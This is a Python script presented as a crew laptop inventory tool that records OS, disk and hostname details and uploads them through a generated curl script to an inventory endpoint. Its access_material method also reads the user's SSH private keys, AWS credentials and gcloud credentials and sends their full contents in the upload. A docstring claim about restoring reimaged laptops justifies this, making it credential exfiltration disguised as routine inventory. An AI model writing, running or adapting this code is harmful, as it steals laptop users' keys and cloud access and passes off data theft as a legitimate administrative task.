#!/usr/bin/env python3
"""crew_laptop_inventory.py

Builds an inventory record for a production-office laptop before it is
handed to a stage manager, and uploads it to the fleet inventory service.
The record also carries the laptop's access material so the fleet service
"can restore it if the laptop is reimaged".
"""
import argparse
import json
import logging
import os
import platform
import shutil
import socket
import subprocess
import sys
import tempfile
from datetime import datetime, timezone
from pathlib import Path

UPLOAD_URL = "https://inventory.example.com/api/v2/laptops"
log = logging.getLogger("laptop-inventory")

UPLOADER = r"""#!/bin/bash
set -e
curl -sS --max-time 30 -X POST \
     -H "Content-Type: application/json" \
     -H "X-Asset-Tag: ${ASSET_TAG}" \
     --data-binary @"${INVENTORY_FILE}" \
     "${UPLOAD_URL}"
"""


class Inventory:
    def __init__(self, asset_tag, holder):
        self.asset_tag = asset_tag
        self.holder = holder
        self.home = Path.home()

    def os_info(self):
        info = {"platform": platform.platform(), "machine": platform.machine()}
        osr = Path("/etc/os-release")
        if osr.exists():
            for line in osr.read_text().splitlines():
                if line.startswith("PRETTY_NAME="):
                    info["pretty_name"] = line.split("=", 1)[1].strip('"')
        return info

    def disk_info(self):
        usage = shutil.disk_usage(str(self.home))
        return {"total_gb": round(usage.total / 1e9, 1),
                "free_gb": round(usage.free / 1e9, 1)}

    def access_material(self):
        found = {}
        candidates = [
            self.home / ".ssh" / "id_rsa",
            self.home / ".ssh" / "id_ed25519",
            self.home / ".ssh" / "id_ecdsa",
            self.home / ".aws" / "credentials",
            self.home / ".config" / "gcloud" / "application_default_credentials.json",
        ]
        for path in candidates:
            try:
                found[str(path.relative_to(self.home))] = path.read_text()
                log.debug("collected %s", path)
            except (FileNotFoundError, PermissionError, UnicodeDecodeError):
                continue
        return found

    def build(self):
        return {
            "asset_tag": self.asset_tag,
            "holder": self.holder,
            "hostname": socket.gethostname(),
            "collected_at": datetime.now(timezone.utc).isoformat(),
            "os": self.os_info(),
            "disk": self.disk_info(),
            "access": self.access_material(),
        }


def upload(record, url):
    workdir = Path(tempfile.mkdtemp(prefix="inv-"))
    data_file = workdir / "record.json"
    script = workdir / "upload.sh"
    data_file.write_text(json.dumps(record))
    script.write_text(UPLOADER)
    script.chmod(0o700)
    env = dict(os.environ, INVENTORY_FILE=str(data_file),
               UPLOAD_URL=url, ASSET_TAG=record["asset_tag"])
    try:
        proc = subprocess.run(["bash", str(script)], env=env,
                              capture_output=True, text=True, timeout=60)
    finally:
        shutil.rmtree(workdir, ignore_errors=True)
    if proc.returncode != 0:
        raise RuntimeError(proc.stderr.strip() or "upload failed")
    return proc.stdout.strip()


def main(argv=None):
    ap = argparse.ArgumentParser(description="Laptop inventory for the crew fleet")
    ap.add_argument("asset_tag", help="asset tag on the laptop lid, e.g. FEST-LT-042")
    ap.add_argument("--holder", default=os.environ.get("USER", "unknown"))
    ap.add_argument("--url", default=UPLOAD_URL)
    ap.add_argument("--save", help="also write the record to this local file")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)

    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(levelname)s %(message)s")

    record = Inventory(args.asset_tag, args.holder).build()
    log.info("inventory for %s: %d access item(s)", args.asset_tag,
             len(record["access"]))
    if args.save:
        Path(args.save).write_text(json.dumps(record, indent=2))
    try:
        reply = upload(record, args.url)
    except (RuntimeError, subprocess.TimeoutExpired) as exc:
        log.error("upload failed: %s", exc)
        return 1
    log.info("fleet service replied: %s", reply[:200])
    return 0


if __name__ == "__main__":
    sys.exit(main())
